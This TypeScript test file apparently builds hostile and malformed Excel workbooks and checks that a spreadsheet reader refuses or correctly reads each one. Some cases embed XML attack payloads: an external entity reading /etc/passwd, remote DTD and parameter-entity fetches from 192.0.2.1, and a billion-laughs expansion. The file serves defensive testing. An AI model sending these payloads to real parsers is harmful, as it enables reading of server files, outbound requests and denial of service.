import { type HostileFile, reading, refusal } from "./hostile-file.ts";
import { inline, makeBook, sheetData } from "./make-book.ts";

const SHEET = "xl/worksheets/sheet1.xml";
const SHARED = "xl/sharedStrings.xml";

/** A workbook whose one sheet is this part. */
function sheet(xml: string): () => Uint8Array {
  return () => makeBook({ sheets: [{ name: "List", xml }] });
}

/** A workbook whose one sheet has this one row. */
function row(cells: string): () => Uint8Array {
  return sheet(`<sheetData><row r="1">${cells}</row></sheetData>`);
}

const damaged = { kind: "damaged", part: SHEET } as const;
const dtd = { kind: "dtd", part: SHEET } as const;

/** Workbooks whose XML is hostile or broken. */
export const XML_PARTS: readonly HostileFile[] = [
  refusal(
    "an outside entity that would read a file",
    "list.xlsx",
    sheet(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1">${inline("A1", "&e;")}</row></sheetData></worksheet>`,
    ),
    dtd,
  ),
  refusal(
    "an outside entity that would call a server",
    "list.xlsx",
    sheet(`<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><worksheet/>`),
    dtd,
  ),
  refusal(
    "entities that grow a billion times",
    "list.xlsx",
    sheet(
      `<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><worksheet>&c;</worksheet>`,
    ),
    dtd,
  ),
  refusal(
    "an entity of a parameter",
    "list.xlsx",
    sheet(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]><worksheet/>`),
    dtd,
  ),
  refusal("a document type in the shared texts", "list.xlsx", () => makeBook({ shared: `<?xml version="1.0"?><!DOCTYPE sst><sst/>` }), {
    kind: "dtd",
    part: SHARED,
  }),
  refusal("a document type in small letters", "list.xlsx", sheet(`<!doctype x><worksheet/>`), dtd),
  refusal("an entity that nobody declared", "list.xlsx", row(inline("A1", "&secret;")), damaged),
  refusal("an entity named as a property of every object", "list.xlsx", row(inline("A1", "&constructor;")), damaged),
  refusal("a sign that XML does not have", "list.xlsx", row(inline("A1", "&#0;")), damaged),
  refusal("half a sign by its number", "list.xlsx", row(inline("A1", "&#xD800;")), damaged),
  refusal("a number beyond all signs", "list.xlsx", row(inline("A1", "&#x110000;")), damaged),
  refusal("a lone ampersand", "list.xlsx", row(inline("A1", "Tom & Jerry of the embassy")), damaged),
  reading("entities of XML and numbered signs", "list.xlsx", row(inline("A1", "&lt;b&gt; &amp; &quot;&apos; &#1240;&#x4D9;")), {
    grids: [[["<b> & \"' Әә"]]],
  }),
  reading("a section of unread signs", "list.xlsx", row(inline("A1", "<![CDATA[<b>&amp;]]>")), { grids: [[["<b>&amp;"]]] }),
  reading(
    "comments and instructions between cells",
    "list.xlsx",
    row(`<!-- <c r="Z9"/> -->${inline("A1", "a")}<?run x?><!---->${inline("B1", "b")}`),
    { grids: [[["a", "b"]]] },
  ),
  refusal("a comment that never ends", "list.xlsx", row(`<!-- ${inline("A1", "a")}`), damaged),
  refusal("a section that never ends", "list.xlsx", row(`<c r="A1" t="inlineStr"><is><t><![CDATA[abc`), damaged),
  refusal("tags that cross", "list.xlsx", sheet(`<sheetData><row r="1"><c r="A1"></row></c></sheetData>`), damaged),
  refusal("a tag that is never closed", "list.xlsx", sheet(`<sheetData><row r="1">`), damaged),
  refusal("two roots", "list.xlsx", sheet(`<?xml version="1.0"?><worksheet/><worksheet/>`), damaged),
  refusal("text after the root", "list.xlsx", sheet(`<?xml version="1.0"?><worksheet/>text`), damaged),
  refusal("a part without a root", "list.xlsx", sheet(`<?xml version="1.0"?>`), damaged),
  refusal("tags a hundred deep", "list.xlsx", sheet("<a>".repeat(100) + "</a>".repeat(100)), damaged),
  refusal("a tag of a hundred thousand signs", "list.xlsx", row(`<c r="A1" x="${"y".repeat(100_000)}"/>`), damaged),
  refusal("a tag full of closing brackets in quotes", "list.xlsx", row(`<c r="A1" x="${">".repeat(60_000)}"/>`), damaged),
  reading("a closing bracket within an attribute", "list.xlsx", row(`<c x="a>b" r="B1" t="inlineStr"><is><t>b</t></is></c>`), {
    grids: [[[null, "b"]]],
  }),
  reading("attributes in single quotes, apart by lines", "list.xlsx", row(`<c\n r = 'B1'\n t='inlineStr'\n><is><t>b</t></is></c >`), {
    grids: [[[null, "b"]]],
  }),
  refusal("an attribute without quotes", "list.xlsx", row(`<c r=A1 t="inlineStr"><is><t>b</t></is></c>`), {
    ...damaged,
    sheet: "List",
    row: 1,
  }),
  reading(
    "a prefix before every name",
    "list.xlsx",
    sheet(
      `<?xml version="1.0"?><x:worksheet xmlns:x="y"><x:sheetData><x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>a</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>`,
    ),
    { grids: [[["a"]]] },
  ),
  reading("a name space declared as the address is", "list.xlsx", row(`<c xmlns:r="A9" r="B1" t="inlineStr"><is><t>b</t></is></c>`), {
    grids: [[[null, "b"]]],
  }),
  reading(
    "a byte order mark before the XML",
    "list.xlsx",
    sheet(`\ufeff<?xml version="1.0"?><worksheet>${sheetData([["a"]])}</worksheet>`),
    { grids: [[["a"]]] },
  ),
  refusal(
    "bytes that are not UTF-8",
    "list.xlsx",
    () => makeBook({ more: [], lies: { [SHEET]: { body: new Uint8Array([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e]) } } }),
    damaged,
  ),
  refusal(
    "a cell that names a shared text that is not there",
    "list.xlsx",
    () =>
      makeBook({
        shared: "<si><t>a</t></si>",
        sheets: [{ name: "List", xml: `<sheetData><row r="3"><c r="B3" t="s"><v>7</v></c></row></sheetData>` }],
      }),
    { ...damaged, sheet: "List", row: 3, column: 2 },
  ),
  refusal(
    "a cell that names a shared text by no number",
    "list.xlsx",
    () =>
      makeBook({
        shared: "<si><t>a</t></si>",
        sheets: [{ name: "List", xml: `<sheetData><row r="1"><c r="A1" t="s"><v>__proto__</v></c></row></sheetData>` }],
      }),
    { ...damaged, sheet: "List", row: 1, column: 1 },
  ),
  reading(
    "shared texts in runs, their reading aloud left out",
    "list.xlsx",
    () =>
      makeBook({
        shared: `<si><r><t>Өмір</t></r><r><rPr><b/></rPr><t>бек</t></r><rPh sb="0" eb="1"><t>READ</t></rPh></si>`,
        sheets: [{ name: "List", xml: `<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>` }],
      }),
    { grids: [[["Өмірбек"]]] },
  ),
  reading("signs written as their numbers", "list.xlsx", row(inline("A1", "a_x000A_b_x005F_x000A_")), { grids: [[["a\nb_x000A_"]]] }),
  refusal(
    "rows that go back",
    "list.xlsx",
    sheet(`<sheetData><row r="2">${inline("A2", "a")}</row><row r="1">${inline("A1", "b")}</row></sheetData>`),
    { kind: "rows-out-of-order", sheet: "List", row: 1 },
  ),
  refusal(
    "a row that comes twice",
    "list.xlsx",
    sheet(`<sheetData><row r="2">${inline("A2", "a")}</row><row r="2">${inline("A2", "b")}</row></sheetData>`),
    { kind: "rows-out-of-order", sheet: "List", row: 2 },
  ),
  refusal("cells that go back", "list.xlsx", row(inline("C1", "a") + inline("B1", "b")), {
    kind: "rows-out-of-order",
    sheet: "List",
    row: 1,
    column: 2,
  }),
  refusal("a cell of another row", "list.xlsx", row(inline("A7", "a")), { kind: "rows-out-of-order", sheet: "List", row: 1, column: 1 }),
  refusal("a row beyond the last", "list.xlsx", sheet(`<sheetData><row r="1048577">${inline("A1", "a")}</row></sheetData>`), {
    kind: "rows-out-of-order",
    sheet: "List",
    row: 1_048_577,
  }),
  refusal("a row of no number", "list.xlsx", sheet(`<sheetData><row r="-1">${inline("A1", "a")}</row></sheetData>`), damaged),
  refusal("an address of no cell", "list.xlsx", row(inline("1A", "a")), { ...damaged, sheet: "List", row: 1 }),
  refusal("an address beyond the last column", "list.xlsx", row(inline("ZZZ1", "a")), { ...damaged, sheet: "List", row: 1 }),
  refusal("a cell outside of any row", "list.xlsx", sheet(`<sheetData>${inline("A1", "a")}</sheetData>`), damaged),
  refusal("a cell of no known type", "list.xlsx", row(`<c r="A1" t="script"><v>1</v></c>`), {
    ...damaged,
    sheet: "List",
    row: 1,
    column: 1,
  }),
  refusal("a number that is none", "list.xlsx", row(`<c r="A1"><v>1e</v></c>`), { ...damaged, sheet: "List", row: 1, column: 1 }),
  refusal("a number written with code", "list.xlsx", row(`<c r="A1"><v>0x1F</v></c>`), { ...damaged, sheet: "List", row: 1, column: 1 }),
  refusal("a number that is not one", "list.xlsx", row(`<c r="A1"><v>NaN</v></c>`), { ...damaged, sheet: "List", row: 1, column: 1 }),
  reading(
    "rows and cells without their addresses",
    "list.xlsx",
    sheet(
      `<sheetData><row><c t="inlineStr"><is><t>a</t></is></c><c t="inlineStr"><is><t>b</t></is></c></row><row/><row><c t="inlineStr"><is><t>c</t></is></c></row></sheetData>`,
    ),
    { grids: [[["a", "b"], ["c"]]] },
  ),
];
